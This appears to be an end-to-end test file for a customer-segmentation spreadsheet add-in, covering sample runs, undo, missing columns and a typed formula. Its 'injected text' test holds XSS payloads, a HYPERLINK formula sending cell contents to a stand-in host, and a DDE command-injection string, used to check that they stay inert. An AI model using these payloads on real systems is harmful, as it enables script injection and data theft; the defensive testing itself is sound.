// Tests one click on the real page: on each sample, on exports from disk, and with something missing; and undo, part by part.
import { readFile } from "node:fs/promises";
import ExcelJS from "@protobi/exceljs";
import type { FrameLocator, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { openFile as openCells } from "../../workbench/files/openFile";
import { documentParts, download, headed, keepPage, openFile, openPage, openSidebar, settled, sharedPage } from "./pageDriver";

async function segment(
  sidebar: FrameLocator,
  button = "Segment my customers",
  written = /were written$|was written$/,
): Promise<void> {
  await sidebar.getByRole("button", { name: button }).click();
  await headed(sidebar, written);
}

async function asWorkbook(path: string): Promise<Buffer> {
  const { cells } = await openCells(path, path, null);
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet("Orders").addRows(cells.map((row) => row.map((cell) => (typeof cell === "object" ? null : cell))));
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** Returns the tabs of the downloaded document, and the customers that one of them lists. */
async function result(page: Page, listed: string): Promise<{ tabs: string[]; customers: string[] }> {
  const { workbook, texts } = await download(page);
  return { tabs: workbook.worksheets.map(({ name }) => name), customers: texts[listed]!.slice(1).map(([name]) => name!) };
}

/** Returns the different values of a column of a sample. */
async function columnOf(path: string, header: string): Promise<Set<string>> {
  const { cells } = await openCells(path, path, null);
  const column = cells[0]!.indexOf(header);
  return new Set(cells.slice(1).map((row) => String(row[column])));
}

describe("one click", () => {
  test("on each sample writes its results, and undo leaves every cell, format and tab as before", async () => {
    const page = await openPage();
    for (const [file, tabs] of [
      ["homeGoods.csv", ["Orders", "Customers", "Summary"]],
      ["chaDian.csv", ["订单", "Customers", "Summary"]],
      ["customers.csv", ["Customers", "Summary"]],
    ] as const) {
      if (file !== "homeGoods.csv") await page.locator("#sample").selectOption(file);
      await settled(page);
      const before = await documentParts(page);
      const sidebar = await openSidebar(page);
      await segment(sidebar);
      const written = await documentParts(page);
      for (const name of tabs) expect(written["xl/workbook.xml"]).toContain(`name="${name}"`);
      expect(written).not.toEqual(before);
      await sidebar.getByRole("button", { name: "Undo last run" }).click();
      await headed(sidebar, "The last run is undone");
      expect(await documentParts(page)).toEqual(before);
    }
    keepPage(page);
  }, 120_000);

  test("on a Chinese export from disk, and on an English workbook, writes the customers of the file", async () => {
    const page = await sharedPage();
    await openFile(page, "茶店导出.csv", await readFile("samples/chaDian.csv"));
    await page.locator("#language").selectOption("zh");
    const sidebar = await openSidebar(page);
    await segment(sidebar, "开始客户分层", /^已写入/);
    const chinese = await result(page, "客户分层");
    expect(chinese.tabs).toEqual(["茶店导出", "客户分层", "客户分层汇总"]);
    const guests = await columnOf("samples/chaDian.csv", "买家昵称");
    expect(chinese.customers.filter((name) => !guests.has(name))).toEqual([]);
    expect(new Set(chinese.customers).size).toBeGreaterThan(400);
    await page.locator("#language").selectOption("en");
    await openFile(page, "shop.xlsx", await asWorkbook("samples/homeGoods.csv"));
    await openSidebar(page);
    await segment(sidebar);
    const english = await result(page, "Customers");
    expect(english.tabs).toEqual(["Orders", "Customers", "Summary"]);
    const buyers = await columnOf("samples/homeGoods.csv", "Customer ID");
    expect(english.customers.filter((name) => !buyers.has(name))).toEqual([]);
    expect(new Set(english.customers).size).toBeGreaterThan(500);
  }, 120_000);
});

describe("where something is lacking", () => {
  test("an empty tab is said to be empty, and the tab with the orders is found once it is shown", async () => {
    const page = await sharedPage();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet("Empty");
    workbook
      .addWorksheet("Shop")
      .addRows([
        ["Customer", "Date", "Amount"],
        ...[...Array(9).keys()].map((row) => [`c${row % 4}`, `2024-03-1${row}`, row + 1]),
      ]);
    await openFile(page, "two.xlsx", Buffer.from(await workbook.xlsx.writeBuffer()));
    const sidebar = await openSidebar(page);
    await sidebar.getByRole("alert").waitFor();
    expect(await sidebar.getByRole("alert").getByRole("paragraph").allInnerTexts()).toEqual([
      "The sheet is empty.",
      "Open the sheet that holds the orders.",
    ]);
    await page.locator("#sheet").getByText("Shop", { exact: true }).click();
    await sidebar.getByRole("button", { name: "Look again" }).click();
    await sidebar.getByText("Sheet “Shop”: 9 rows. Customer = A").waitFor();
  }, 60_000);

  test("a customer column that is not found is asked for, and the run goes on with the one chosen", async () => {
    const page = await sharedPage();
    const rows = ["Wer,Order date,Amount", ...[...Array(20).keys()].map((row) => `p${row % 6},2024-03-${10 + row},${row + 5}`)];
    await openFile(page, "wer.csv", Buffer.from(rows.join("\n")));
    const sidebar = await openSidebar(page);
    await sidebar.getByText("Choose the columns that were not found:").waitFor();
    expect(await sidebar.getByRole("button", { name: "Segment my customers" }).isDisabled()).toBe(true);
    await sidebar.getByLabel("Customer").selectOption({ label: "A – Wer (p0)" });
    await segment(sidebar);
    expect(await result(page, "Customers")).toEqual({
      tabs: ["wer", "Customers", "Summary"],
      customers: [0, 1, 2, 3, 4, 5].map((buyer) => `p${buyer}`),
    });
  }, 60_000);
});

describe("injected text", () => {
  const evil = (mark: string): string => `<img src=x onerror="top.hacked='${mark}'">`;

  test("in names, headers, tabs and files stays text in page and sidebar, runs no script and makes no request", async () => {
    const page = await sharedPage();
    const workbook = new ExcelJS.Workbook();
    const names = [
      `${evil("name")}`,
      '=HYPERLINK("https://hook.invalid/?"&A1,"click")',
      "</script><script>top.hacked=1</script>",
      "javascript:top.hacked=1",
      "+cmd|' /C calc'!A0",
      '"><svg onload=top.hacked=1>',
    ];
    const sheet = workbook.addWorksheet("<img src=x onerror=hacked(1)>");
    sheet.addRow(["Customer", "Date", "Amount", evil("header"), "</style><script>top.hacked=1</script>"]);
    for (let row = 0; row < 30; row += 1) {
      sheet.addRow([names[row % names.length], `2024-03-${10 + (row % 19)}`, row + 5, evil("cell"), "x"]);
    }
    await openFile(page, `${evil("file").replaceAll('"', "'")}.xlsx`, Buffer.from(await workbook.xlsx.writeBuffer()));
    const sidebar = await openSidebar(page);
    await sidebar.getByText("<img src=x onerror=hacked(1)>").waitFor();
    await sidebar.getByLabel("Add a sentence with the reason").check();
    await segment(sidebar);
    for (const summary of await sidebar.locator("summary").all()) await summary.click();
    await page.locator("#sheet").getByText("Summary", { exact: true }).click();
    await page.locator("figure").first().waitFor();
    await page.locator("#sheet").getByText("Customers", { exact: true }).click();
    const frame = page.frames().find((each) => each.url() === "about:srcdoc")!;
    for (const place of [page.mainFrame(), frame]) {
      expect(await place.locator("img, svg[onload], [onerror]").count()).toBe(0);
      expect(await place.evaluate(() => "hacked" in window)).toBe(false);
    }
    const { texts, workbook: written } = await download(page);
    expect(new Set(texts.Customers!.slice(1).map(([name]) => name))).toEqual(new Set(names));
    written.getWorksheet("Customers")!.eachRow((row) => {
      expect(row.getCell(1).formula).toBe(undefined);
      expect(row.getCell(1).hyperlink).toBe(undefined);
    });
  }, 60_000);
});

describe("a formula that is typed", () => {
  /** Types into a cell. It clicks A1 and reaches the cell by the arrow keys. */
  const typeAt = async (page: Page, [down, right]: readonly [number, number], text: string): Promise<void> => {
    await page.locator("canvas[id^=univer-sheet-main]").click({ position: { x: 90, y: 32 } });
    for (let step = 0; step < down; step += 1) await page.keyboard.press("ArrowDown");
    for (let step = 0; step < right; step += 1) await page.keyboard.press("ArrowRight");
    await page.keyboard.type(text);
    await page.keyboard.press("Enter");
  };

  test("spills beside the orders, and is worked out again when one of them is edited", async () => {
    const page = await sharedPage();
    const rows = ["Customer,Date,Amount", "Ann,2024-03-01,10", "Bob,2024-03-02,20", "Ann,2024-03-05,30"];
    await openFile(page, "small.csv", Buffer.from(rows.join("\n")));
    await typeAt(page, [0, 4], "=RFM_TABLE(A2:A4, B2:B4, C2:C4)");
    const spilled = async (): Promise<unknown[][]> =>
      (await download(page)).texts.small!.slice(0, 3).map((row) => [row[4], row[7], row[8]]);
    await expect.poll(spilled).toEqual([
      ["Customer", "Orders", "Revenue"],
      ["Ann", "2", "40"],
      ["Bob", "1", "20"],
    ]);
    await typeAt(page, [1, 2], "55");
    await expect.poll(async () => (await spilled())[1]).toEqual(["Ann", "2", "85"]);
  }, 60_000);
});
